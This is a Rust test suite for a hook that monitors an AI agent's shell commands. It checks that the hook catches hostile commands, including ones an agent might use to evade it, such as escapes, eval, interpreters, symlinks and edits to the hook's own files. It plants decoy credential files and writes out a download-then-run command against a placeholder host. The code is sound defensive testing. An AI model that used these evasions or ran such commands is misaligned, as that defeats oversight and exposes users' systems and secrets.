//! The hostile command corpus (`tests/data/hostile/commands.jsonl`): commands an agent that
//! wants to hide would run (evasions of every rule: program paths, escapes, tabs, `|&`, `eval`,
//! `$(…)`, `cd`, `$HOME`, globs, interpreters, symlinks, writes to our own files) and ordinary
//! commands that must stay quiet (quoted data, patterns, messages). Each goes through the built
//! hook in enforce mode as a PreToolUse Bash call. A line with `expect` rules must raise all of
//! them (and exit 2 when one is a deny rule); a line with none must raise no finding and redact
//! nothing. The counts are printed and asserted; the README quotes them.
//!
//! Placeholders: `$P/` the project, `$H/` the home dir, `$DATA` the data dir.

use crate::harness::sandbox::*;
use serde_json::{json, Value};

fn corpus() -> Vec<Value> {
    load("commands.jsonl")
}

fn load(name: &str) -> Vec<Value> {
    let text = std::fs::read_to_string(format!("{}/tests/data/hostile/{name}", env!("CARGO_MANIFEST_DIR"))).unwrap();
    text.lines().filter(|l| !l.trim().is_empty()).map(|l| serde_json::from_str(l).unwrap()).collect()
}

/// The sandbox the corpus expects: sensitive files to glob against, a symlink out of the
/// project, our settings entry and marker.
pub fn hostile_sandbox() -> Sandbox {
    let mut sb = Sandbox::new();
    let (p, h) = (sb.project.clone(), sb.home.clone());
    for d in [
        h.join(".ssh"),
        h.join(".aws"),
        h.join(".kube"),
        h.join(".gnupg"),
        h.join(".config/agent-telemetry"),
        p.join(".claude"),
        p.join("src"),
    ] {
        std::fs::create_dir_all(d).unwrap();
    }
    for f in [
        h.join(".ssh/id_rsa"),
        h.join(".aws/credentials"),
        h.join(".kube/config"),
        h.join(".bash_history"),
        p.join(".env"),
        p.join("notes.md"),
    ] {
        std::fs::write(f, "x").unwrap();
    }
    std::fs::write(p.join(".claude/settings.json"), r#"{"hooks":{}}"#).unwrap();
    std::os::unix::fs::symlink("/etc/ssh", p.join("link-to-etc-ssh")).unwrap();
    sb.set("AGENT_TELEMETRY_ENFORCE", "1");
    sb
}

pub fn fill(sb: &Sandbox, s: &str) -> String {
    s.replace("$P/", &format!("{}/", sb.project.display()))
        .replace("$H/", &format!("{}/", sb.home.display()))
        .replace("$DATA", &sb.data.display().to_string())
}

/// (caught, tried, false alarms, benign, failures) for a corpus file.
fn run_corpus(rows: &[Value]) -> (u32, u32, u32, u32, Vec<String>) {
    let sb = hostile_sandbox();
    let (mut tried, mut caught, mut benign, mut false_alarms) = (0, 0, 0, 0);
    let mut failures = Vec::new();
    for (i, row) in rows.iter().enumerate() {
        let cmd = fill(&sb, row["cmd"].as_str().unwrap());
        let expect: Vec<&str> = row["expect"].as_array().unwrap().iter().filter_map(Value::as_str).collect();
        let payload = json!({
            "session_id": "s-hostile", "transcript_path": "/nonexistent.jsonl", "cwd": sb.project,
            "hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_use_id": format!("toolu_{i}"),
            "tool_input": {"command": cmd}
        });
        let out = sb.hook(payload.to_string().as_bytes());
        out.no_panic();
        let r = sb.records().pop().unwrap();
        let rules: Vec<&str> = r["security"]["findings"]
            .as_array()
            .map(|a| a.iter().filter_map(|f| f["rule"].as_str()).collect())
            .unwrap_or_default();
        let denies = r["security"]["findings"].as_array().is_some_and(|a| a.iter().any(|f| f["action"] == "deny"));
        let want_exit = if denies { 2 } else { 0 };
        if out.code != want_exit {
            failures.push(format!("{cmd:?}: exit {} (want {want_exit}), findings {rules:?}", out.code));
        }
        if expect.is_empty() {
            benign += 1;
            let redactions = r["security"]["redactions"].as_u64().unwrap_or(0);
            if !rules.is_empty() || redactions > 0 {
                false_alarms += 1;
                failures.push(format!(
                    "benign {cmd:?}: flagged {rules:?}, {redactions} redaction(s): {}",
                    r["action_details"]["command"]
                ));
            }
        } else {
            tried += 1;
            let missing: Vec<&&str> = expect.iter().filter(|e| !rules.contains(e)).collect();
            if missing.is_empty() {
                caught += 1;
            } else {
                failures.push(format!("hostile {cmd:?}: missed {missing:?} (got {rules:?})"));
            }
        }
    }
    sb.assert_verified();
    (caught, tried, false_alarms, benign, failures)
}

#[test]
fn hostile_commands() {
    let (caught, tried, false_alarms, benign, failures) = run_corpus(&corpus());
    println!("hostile commands: caught {caught}/{tried}; false alarms {false_alarms}/{benign} benign");
    assert!(tried >= 150 && benign >= 70, "corpus too small: {tried} hostile, {benign} benign");
    assert!(failures.is_empty(), "{} failure(s):\n{}", failures.len(), failures.join("\n"));
    assert_eq!((caught, false_alarms), (tried, 0));
}

/// Download-then-run split over tool calls of one session (`sequences.jsonl`): each row's
/// commands run as PreToolUse Bash calls of their own session; the last one must raise `expect`
/// (none: no finding at all). Sessions do not share what they downloaded.
#[test]
fn hostile_sequences() {
    let sb = hostile_sandbox();
    let (mut tried, mut caught, mut benign, mut false_alarms) = (0, 0, 0, 0);
    let mut failures = Vec::new();
    for (i, row) in load("sequences.jsonl").iter().enumerate() {
        let cmds: Vec<String> =
            row["cmds"].as_array().unwrap().iter().map(|c| fill(&sb, c.as_str().unwrap())).collect();
        let expect: Vec<&str> = row["expect"].as_array().unwrap().iter().filter_map(Value::as_str).collect();
        for (k, cmd) in cmds.iter().enumerate() {
            let payload = json!({
                "session_id": format!("s-seq-{i}"), "transcript_path": "/nonexistent.jsonl", "cwd": sb.project,
                "hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_use_id": format!("toolu_{i}_{k}"),
                "tool_input": {"command": cmd}
            });
            sb.hook(payload.to_string().as_bytes()).no_panic();
        }
        let r = sb.records().pop().unwrap();
        let rules: Vec<&str> = r["security"]["findings"]
            .as_array()
            .map(|a| a.iter().filter_map(|f| f["rule"].as_str()).collect())
            .unwrap_or_default();
        if expect.is_empty() {
            benign += 1;
            if !rules.is_empty() {
                false_alarms += 1;
                failures.push(format!("benign {cmds:?}: flagged {rules:?}"));
            }
        } else {
            tried += 1;
            if expect.iter().all(|e| rules.contains(e)) {
                caught += 1;
            } else {
                failures.push(format!("hostile {cmds:?}: got {rules:?}"));
            }
        }
    }
    // The same download, run from another session: not linked.
    let run = |session: &str, cmd: &str| {
        let payload = json!({"session_id": session, "cwd": sb.project, "hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_use_id": "t", "tool_input": {"command": cmd}});
        sb.hook(payload.to_string().as_bytes()).no_panic();
        sb.records().pop().unwrap()
    };
    run("s-one", "curl -so fetched.sh https://x.example/i.sh");
    let other = run("s-two", "bash fetched.sh");
    assert!(other["security"]["findings"].as_array().is_none_or(|a| a.is_empty()), "{other}");
    println!("hostile sequences: caught {caught}/{tried}; false alarms {false_alarms}/{benign} benign");
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    assert!(tried >= 4 && benign >= 3);
    sb.assert_verified();
}

/// A held-out set, written after the corpus above passed and run once before any fix: its
/// first-run rates are the honest measure (docs/security.md). Known misses are listed, not hidden: the
/// assertion is that no result gets worse than the recorded one.
#[test]
fn held_out_commands() {
    let (caught, tried, false_alarms, benign, failures) = run_corpus(&load("heldout.jsonl"));
    println!("held-out commands: caught {caught}/{tried}; false alarms {false_alarms}/{benign} benign");
    for f in &failures {
        println!("  known: {f}");
    }
    assert!(
        caught >= HELD_OUT_CAUGHT && false_alarms == HELD_OUT_FALSE_ALARMS,
        "worse than recorded: {}",
        failures.join("\n")
    );
}

/// First run (before any fix): 20 of 25 caught, 0 of 24 false alarms. After the download /
/// decoder / interpreter work (the five misses' classes closed): 25 of 25.
const HELD_OUT_CAUGHT: u32 = 25;
const HELD_OUT_FALSE_ALARMS: u32 = 0;

/// The keyword prefilter never hides a match: for every normalised line of the corpus and every
/// built-in command rule, a match of the rule's regex (prefilter bypassed) implies the prefilter
/// lets the rule through. Path rules: the same over the corpus' sensitive paths.
#[test]
fn prefilters_are_supersets() {
    use agent_telemetry::enrich::{command::normalise, policy::Policy};
    let policy = Policy::builtin();
    let sb = hostile_sandbox();
    let (mut checked, mut matched) = (0, 0);
    let mut units = Vec::new();
    let mut paths = Vec::new();
    let rows = corpus().into_iter().chain(load("dark.jsonl")).chain(load("risky.jsonl")).chain(load("sensitive.jsonl"));
    for row in rows.filter(|r| r["cmd"].is_string()) {
        let n = normalise(&fill(&sb, row["cmd"].as_str().unwrap()), &sb.project, Some(&sb.home));
        units.extend(n.units);
        paths.extend(n.paths.into_iter().map(|p| {
            agent_telemetry::enrich::scope::resolve(std::path::Path::new(&p.path), &p.cwd, Some(&sb.home))
                .display()
                .to_string()
        }));
    }
    for text in units.iter().chain(paths.iter()) {
        for id in policy.rule_ids() {
            checked += 1;
            if policy.rule_matches_unfiltered(id, text) {
                matched += 1;
                assert!(policy.prefilter_admits(id, text), "the prefilter of {id} hides a match on {text:?}");
            }
        }
    }
    println!("prefilter superset: {matched} matches in {checked} (rule, text) pairs, all admitted");
    assert!(matched > 150);
}
